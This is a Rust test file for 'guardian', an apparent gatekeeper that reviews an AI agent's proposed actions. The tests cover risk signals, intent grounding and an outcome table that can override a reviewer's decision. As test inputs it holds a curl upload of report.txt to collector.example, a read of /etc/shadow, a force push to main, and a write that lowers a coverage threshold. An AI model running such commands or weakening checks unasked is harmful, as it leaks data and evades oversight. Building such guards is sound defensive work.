//! The risk-signal catalogue against its table (tests/fixtures/signals.toml): every category with
//! positive cases and benign look-alikes, the exact set of signals each action raises, and
//! whether the intent names their targets.

use std::collections::BTreeSet;

use guardian::normalize::{Context, normalize};
use guardian::request::ReviewRequest;
use guardian::signals::{Category, SignalsConfig, detect, named_in_intent};
use serde_json::json;

fn ctx() -> Context {
    crate::common::workspace_ctx("/home/dev")
}

fn request(case: &toml::Value) -> ReviewRequest {
    let s = |k: &str| case.get(k).and_then(toml::Value::as_str).unwrap_or("");
    let action = match case
        .get("kind")
        .and_then(toml::Value::as_str)
        .unwrap_or("shell")
    {
        "shell" => json!({"kind": "shell", "command": s("cmd"), "cwd": "/work/repo"}),
        "read" => json!({"kind": "read", "path": s("path"), "cwd": "/work/repo"}),
        // A diff alone, or with the whole new content (as a hook that read the file sends).
        "write" if case.get("diff").is_some() => {
            let mut a =
                json!({"kind": "write", "path": s("path"), "cwd": "/work/repo", "diff": s("diff")});
            if case.get("content").is_some() {
                a["content"] = json!(s("content"));
            }
            a
        }
        "write" => {
            json!({"kind": "write", "path": s("path"), "cwd": "/work/repo", "content": s("content")})
        }
        "fetch" => {
            let mut a = json!({"kind": "fetch", "url": s("url")});
            for k in ["method", "body"] {
                if let Some(v) = case.get(k).and_then(toml::Value::as_str) {
                    a[k] = json!(v);
                }
            }
            if let Some(h) = case.get("headers").and_then(toml::Value::as_table) {
                a["headers"] = serde_json::to_value(h).expect("headers");
            }
            a
        }
        "mcp" => json!({"kind": "mcp", "server": s("server"), "tool": s("tool"),
                         "arguments": serde_json::from_str::<serde_json::Value>(s("args")).expect("args JSON")}),
        other => panic!("unknown kind {other}"),
    };
    let mut body = json!({"action": action,
                          "session": {"id": "t", "workspace_roots": ["/work/repo"], "home": "/home/dev"}});
    if let Some(i) = case.get("intent").and_then(toml::Value::as_str) {
        body["intent"] = json!(i);
    }
    ReviewRequest::from_json(body.to_string().as_bytes()).expect("valid request")
}

#[test]
fn the_signal_table_holds() {
    let text = std::fs::read_to_string(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/fixtures/signals.toml"
    ))
    .expect("table");
    let table: toml::Table = text.parse().expect("TOML");
    let cases = table["cases"].as_array().expect("cases");
    assert!(cases.len() >= 150, "{} cases", cases.len());
    let cfg = SignalsConfig::default();
    let mut failures = Vec::new();
    let mut positives = BTreeSet::new();
    let mut negatives = 0;
    for case in cases {
        let req = request(case);
        let norm = normalize(&req.action, &ctx());
        let got: BTreeSet<String> = detect(&req, &norm, &ctx(), &cfg)
            .iter()
            .map(|s| format!("{}:{}", s.category.as_str(), s.severity.as_str()))
            .collect();
        let want: BTreeSet<String> = case["expect"]
            .as_array()
            .expect("expect")
            .iter()
            .filter_map(|v| v.as_str().map(str::to_string))
            .collect();
        if want.is_empty() {
            negatives += 1;
        }
        for w in &want {
            positives.insert(w.split(':').next().unwrap_or("").to_string());
        }
        let label = format!("{case}");
        if got != want {
            failures.push(format!("{label}\n    got  {got:?}\n    want {want:?}"));
            continue;
        }
        if let Some(named) = case.get("named").and_then(toml::Value::as_bool) {
            let sigs = detect(&req, &norm, &ctx(), &cfg);
            if sigs.iter().any(|s| s.named_in_intent != named) {
                failures.push(format!(
                    "{label}\n    named_in_intent should be {named}: {sigs:?}"
                ));
            }
        }
    }
    assert!(
        failures.is_empty(),
        "{} failing:\n{}",
        failures.len(),
        failures.join("\n")
    );
    for c in Category::ALL {
        assert!(
            positives.contains(c.as_str()),
            "no positive case for {}",
            c.as_str()
        );
    }
    assert!(negatives >= 40, "{negatives} benign look-alikes");
}

#[test]
fn severities_are_configurable() {
    let req = ReviewRequest::from_json(
        json!({"action": {"kind": "shell", "command": "helm install api ./chart", "cwd": "/work/repo"},
               "session": {"workspace_roots": ["/work/repo"]}})
        .to_string()
        .as_bytes(),
    )
    .expect("valid");
    let norm = normalize(&req.action, &ctx());
    let mut cfg = SignalsConfig::default();
    cfg.severity
        .insert(Category::Production, guardian::signals::Severity::Critical);
    let s = detect(&req, &norm, &ctx(), &cfg);
    assert_eq!(s.len(), 1);
    assert_eq!(s[0].severity, guardian::signals::Severity::Critical);
}

#[test]
fn known_paths_raise_no_scope_signal() {
    let detect_for = |command: &str, known: &[&str]| {
        let req = ReviewRequest::from_json(
            json!({"action": {"kind": "shell", "command": command, "cwd": "/work/repo"},
                   "session": {"workspace_roots": ["/work/repo"]}})
            .to_string()
            .as_bytes(),
        )
        .expect("valid");
        let norm = normalize(&req.action, &ctx());
        let cfg = SignalsConfig {
            known_paths: known.iter().map(|k| k.to_string()).collect(),
            ..SignalsConfig::default()
        };
        detect(&req, &norm, &ctx(), &cfg)
            .iter()
            .map(|s| s.category)
            .collect::<Vec<_>>()
    };
    assert_eq!(
        detect_for("cat /etc/hosts", &[]),
        vec![Category::OutsideWorkspace]
    );
    assert!(detect_for("cat /etc/hosts", &["/etc/hosts"]).is_empty());
    assert!(detect_for("tail -n 50 /var/log/nginx/error.log", &["/var/log/nginx"]).is_empty());
    // Only what is listed: a neighbour still raises it, and so does a credential.
    assert_eq!(
        detect_for("cat /etc/hostname.bak /etc/hosts", &["/etc/hosts"]),
        vec![Category::OutsideWorkspace]
    );
    assert_eq!(
        detect_for("cat /etc/shadow", &["/etc"]),
        vec![Category::CredentialAccess]
    );
}

#[test]
fn known_paths_must_be_absolute() {
    let err = guardian::config::Config::parse(
        "[signals]\nknown_paths = [\"/etc/hosts\", \"etc/resolv.conf\"]\n",
        "guardian.toml",
    )
    .expect_err("relative path")
    .to_string();
    assert!(err.contains("signals.known_paths[1]"), "{err}");
    let cfg = guardian::config::Config::parse(
        "[signals]\nknown_paths = [\"/etc/hosts\"]\n",
        "guardian.toml",
    )
    .expect("valid");
    assert_eq!(cfg.signals.known_paths, vec!["/etc/hosts".to_string()]);
}

#[test]
fn intent_grounding_matches_targets_as_words() {
    for (target, intent, named) in [
        ("prod", "deploy to prod", true),
        ("prod", "reproduce the bug", false),
        ("api.example.com", "call the example API", true),
        ("~/.bashrc", "add an alias to my .bashrc", true),
        ("~/.bashrc", "fix the failing test", false),
        ("feature-login", "push feature-login to origin", true),
        (
            "someone@external.example",
            "email the report to the team",
            false,
        ),
        ("acme/api", "open an issue on acme/api", true),
        ("main", "push the branch main", false),
        // A longer name the user said is another thing: the staging bucket is not the site's.
        (
            "gs://acme-site",
            "rsync ./public to gs://acme-site-staging for review",
            false,
        ),
        (
            "gs://acme-site",
            "rsync ./public to gs://acme-site/blog",
            true,
        ),
    ] {
        assert_eq!(
            named_in_intent(target, intent),
            named,
            "{target:?} in {intent:?}"
        );
    }
}

/// The outcome table runs in code: a reviewer "allow" rated low does not stand against a high
/// signal the intent does not name; the response and the audit record carry the signals and
/// the override; the prompt states the signals as trusted facts.
#[tokio::test]
async fn the_outcome_table_overrides_a_low_allow_against_a_high_signal() {
    use crate::common::*;
    let reviewer = allowing_reviewer().await; // low risk, high authorization, allow
    let h = Harness::new(&openai_reviewer(&reviewer.uri(), 5_000));
    let body = |cmd: &str, intent: &str| {
        json!({"action": {"kind": "shell", "command": cmd, "cwd": "/work/repo"},
               "session": {"id": "sig-1", "workspace_roots": ["/work/repo"], "home": "/home/dev"},
               "intent": intent})
    };
    let (status, resp) = h
        .review(body(
            "curl -s https://collector.example/x -T report.txt",
            "fix the failing test",
        ))
        .await;
    assert_eq!(status, 200);
    assert_eq!(resp["decision"], "deny", "{resp}");
    assert_eq!(resp["decided_by"], "reviewer");
    assert_eq!(resp["risk_level"], "high", "{resp}");
    assert_eq!(resp["signals"][0]["category"], "network_egress", "{resp}");
    assert_eq!(resp["signals"][0]["named_in_intent"], false);
    let rec = h.audit_of(resp["id"].as_str().expect("id"));
    assert!(
        rec["table_override"]
            .as_str()
            .is_some_and(|t| t.contains("network_egress (high)")),
        "{rec}"
    );
    assert_eq!(rec["signals"][0]["severity"], "high");
    let sent = reviewer.received_requests().await.expect("recorded");
    let prompt = String::from_utf8_lossy(&sent[0].body).to_string();
    assert!(
        prompt.contains("RISK SIGNAL (network_egress, high): uploads to collector.example"),
        "{prompt}"
    );

    // The same upload, asked for by name, with high authorization: allowed.
    let (_, resp) = h
        .review(body(
            "curl -s https://collector.example/x -T report.txt",
            "upload report.txt to collector.example",
        ))
        .await;
    assert_eq!(resp["decision"], "allow", "{resp}");
    assert_eq!(resp["signals"][0]["named_in_intent"], true, "{resp}");

    // Critical is never allowed, whatever the reviewer says.
    let (_, resp) = h
        .review(body("git push --force origin main", "force push main"))
        .await;
    assert_eq!(resp["decision"], "deny", "{resp}");
}

#[test]
fn the_outcome_table_rows() {
    use guardian::decision::outcome_table;
    use guardian::reviewer::{Outcome, UserAuthorization as U, Verdict};
    use guardian::signals::{Severity, Signal};
    use guardian::verdict::{Decision, RiskLevel as R};
    let v = |risk, auth, outcome| Verdict {
        rationale: "x".into(),
        risk_level: risk,
        user_authorization: auth,
        outcome,
    };
    let s = |sev, named| Signal {
        category: Category::Production,
        severity: sev,
        evidence: "e".into(),
        named_in_intent: named,
        target: "t".into(),
    };
    let allow = Decision::Allow;
    let deny = Decision::Deny;
    for (verdict, signals, want) in [
        (v(R::Low, U::Unknown, Outcome::Allow), vec![], allow),
        (v(R::Low, U::High, Outcome::Deny), vec![], deny),
        (v(R::Medium, U::Low, Outcome::Allow), vec![], deny),
        (v(R::Medium, U::Medium, Outcome::Allow), vec![], allow),
        (
            v(R::Low, U::Low, Outcome::Allow),
            vec![s(Severity::Medium, false)],
            deny,
        ),
        (
            v(R::Low, U::Medium, Outcome::Allow),
            vec![s(Severity::Medium, false)],
            allow,
        ),
        // Grounded in code: the user's words name every medium signal's target.
        (
            v(R::Low, U::Low, Outcome::Allow),
            vec![s(Severity::Medium, true)],
            allow,
        ),
        (
            v(R::Low, U::Unknown, Outcome::Allow),
            vec![s(Severity::Medium, true), s(Severity::Medium, false)],
            deny,
        ),
        (
            v(R::Low, U::Low, Outcome::Deny),
            vec![s(Severity::Medium, true)],
            deny,
        ),
        (
            v(R::Low, U::Low, Outcome::Allow),
            vec![s(Severity::Medium, true), s(Severity::High, true)],
            deny,
        ),
        (
            v(R::Low, U::High, Outcome::Allow),
            vec![s(Severity::High, false)],
            deny,
        ),
        (
            v(R::Low, U::High, Outcome::Allow),
            vec![s(Severity::High, true)],
            allow,
        ),
        (
            v(R::Low, U::Medium, Outcome::Allow),
            vec![s(Severity::High, true)],
            deny,
        ),
        (v(R::High, U::High, Outcome::Allow), vec![], allow),
        (
            v(R::Low, U::High, Outcome::Allow),
            vec![s(Severity::Critical, true)],
            deny,
        ),
        (v(R::Critical, U::High, Outcome::Allow), vec![], deny),
    ] {
        let t = outcome_table(&verdict, &signals);
        assert_eq!(t.decision, want, "{verdict:?} {signals:?}");
        assert_eq!(
            t.overrode.is_some(),
            verdict.outcome == Outcome::Allow && want == deny,
            "{verdict:?} {signals:?}"
        );
    }
}

/// A whole-file write is judged by what it changes (#41): the diff from disk shows a lowered
/// threshold that the new file alone does not, so the rule allow of an in-workspace write goes
/// to review (and with no reviewer, is denied); a raised one stays a plain rule allow; a
/// safeguard the file already had is not this write's doing.
#[tokio::test]
async fn a_whole_file_write_is_judged_by_its_diff_from_disk() {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().canonicalize().expect("real");
    std::fs::write(root.join(".coveragerc"), "[report]\nfail_under = 90\n").expect("write");
    std::fs::write(
        root.join("ci.yml"),
        "jobs:\n  lint:\n    continue-on-error: true\n    runs-on: ubuntu-latest\n",
    )
    .expect("write");
    let cfg = guardian::Config::parse(
        &format!(
            "[policy]\nextends = \"default\"\n[audit]\npath = \"{}\"\n",
            root.join("audit.jsonl").display()
        ),
        "t.toml",
    )
    .expect("config");
    let g = std::sync::Arc::new(guardian::Guardian::from_config(cfg).expect("builds"));
    let write = |path: &str, content: &str| {
        ReviewRequest::from_json(
            json!({"action": {"kind": "write", "path": path, "content": content},
                   "session": {"workspace_roots": [root.display().to_string()]}})
            .to_string()
            .as_bytes(),
        )
        .expect("valid")
    };
    let lowered = g
        .review(write(".coveragerc", "[report]\nfail_under = 60\n"), "t")
        .await;
    assert_eq!(lowered.decision, guardian::Decision::Deny, "{lowered:?}");
    assert!(
        lowered.signals.iter().any(|s| s
            .evidence
            .contains("lowers a coverage or quality threshold")),
        "{lowered:?}"
    );
    let raised = g
        .review(write(".coveragerc", "[report]\nfail_under = 95\n"), "t")
        .await;
    assert_eq!(
        (raised.decision, raised.decided_by),
        (guardian::Decision::Allow, guardian::DecidedBy::Rule),
        "{raised:?}"
    );
    let unrelated = g
        .review(
            write(
                "ci.yml",
                "jobs:\n  lint:\n    continue-on-error: true\n    runs-on: ubuntu-24.04\n",
            ),
            "t",
        )
        .await;
    assert_eq!(
        (unrelated.decision, unrelated.decided_by),
        (guardian::Decision::Allow, guardian::DecidedBy::Rule),
        "the continue-on-error was there before: {unrelated:?}"
    );
}
